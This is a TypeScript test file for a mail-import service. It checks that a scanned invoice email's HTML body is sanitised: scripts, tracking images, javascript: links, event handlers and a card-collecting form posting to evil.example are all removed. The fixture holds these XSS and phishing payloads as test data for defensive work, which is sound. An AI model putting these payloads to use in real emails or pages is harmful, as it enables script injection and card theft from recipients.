import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHarness, type Harness } from '../../harness.ts';
import { startFakeGmail, gmailEnv, connectMailbox, encodedWord, type FakeGmail } from '../../fakes/gmail.ts';
import { mailsPath, seenIdOf, type ScannedMail } from '../../../functions/src/domain/mail/mailImport.ts';

let h: Harness;
let fake: FakeGmail;
let accountId: string;
before(async () => {
  fake = await startFakeGmail();
  h = await createHarness({ env: gmailEnv(fake) });
  accountId = await connectMailbox(h);
  const hostile =
    '<p dir="rtl">שלום <b>Dana</b>, the invoice is attached.</p><script>alert(1)</script><img src="https://tracker.example/p.gif">' +
    '<a href="javascript:steal()">click</a><a href="https://supplier.example/pay" onclick="x()">portal</a><form action="https://evil.example"><input name="card"></form>' +
    '<p style="background:url(https://evil.example/x)" onmouseover="y()">styled</p>';
  fake.add({
    id: 'mail-1',
    from: `${encodedWord('ספק')} <bills@supplier.example>`,
    subject: encodedWord('חשבונית מרץ'),
    dateMs: Date.parse('2026-03-05T09:00:00Z'),
    body: { mimeType: 'multipart/mixed', parts: [{ mimeType: 'multipart/alternative', parts: [{ mimeType: 'text/plain', data: Buffer.from('plain version') }, { mimeType: 'text/html', data: Buffer.from(hostile) }] }, { mimeType: 'application/pdf', data: Buffer.from('%PDF-1.4'), filename: 'invoice-march.pdf' }] },
  });
  const seenId = seenIdOf(accountId, 'mail-1');
  const rec: ScannedMail = { seenId, accountId, messageId: 'mail-1', importId: 'i1', from: 'ספק <bills@supplier.example>', subject: 'חשבונית מרץ', date: '2026-03-05T09:00:00.000Z', dateMs: Date.parse('2026-03-05T09:00:00Z'), result: 'imported', reason: '', invoices: 1, docIds: [], search: [], createdAt: new Date().toISOString() };
  await h.app.services.store.set(mailsPath(h.owner.businessId, seenId), { ...rec });
});
after(async () => {
  await h.close();
  await fake.close();
});

test('a scanned mail comes back with its headers, attachment names and a body with nothing active or remote left', async () => {
  const m = await h.call('mailboxMailGet', { seenId: seenIdOf(accountId, 'mail-1') });
  assert.equal(m.headers.subject, 'חשבונית מרץ');
  assert.match(m.headers.from, /ספק <bills@supplier\.example>/);
  assert.deepEqual(m.attachments, ['invoice-march.pdf']);
  assert.match(m.html, /שלום <b>Dana<\/b>/);
  assert.match(m.html, /<p dir="rtl">/);
  assert.match(m.html, /<a href="https:\/\/supplier\.example\/pay" rel="noopener noreferrer nofollow" target="_blank">portal<\/a>/);
  for (const bad of [/<script/i, /alert\(1\)/, /<img/i, /tracker\.example/, /javascript:/i, /onclick|onmouseover/i, /<form|<input/i, /evil\.example/, /style=/i]) assert.doesNotMatch(m.html, bad);
});

test('an unknown or foreign mail is not-found', async () => {
  await assert.rejects(h.call('mailboxMailGet', { seenId: 'nope' }), { code: 'not-found', message: /^seenId:/ });
  const other = await h.newBusiness('Other');
  await assert.rejects(h.call('mailboxMailGet', { seenId: seenIdOf(accountId, 'mail-1') }, other), { code: 'not-found' });
});
